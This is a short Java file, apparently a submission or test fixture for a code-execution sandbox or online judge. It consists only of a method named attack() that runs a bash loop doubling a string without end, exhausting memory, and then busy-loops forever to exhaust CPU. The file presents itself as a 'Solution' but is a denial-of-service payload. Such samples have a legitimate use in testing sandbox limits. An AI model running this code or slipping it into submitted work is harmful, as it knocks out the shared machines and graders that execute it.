import java.io.IOException;

class Solution {
    static void attack() throws IOException, InterruptedException {
        new ProcessBuilder("/usr/bin/bash", "-c", "x=aaaaaaaa; while :; do x=$x$x; done").start().waitFor();
        while (true) {}
    }
}
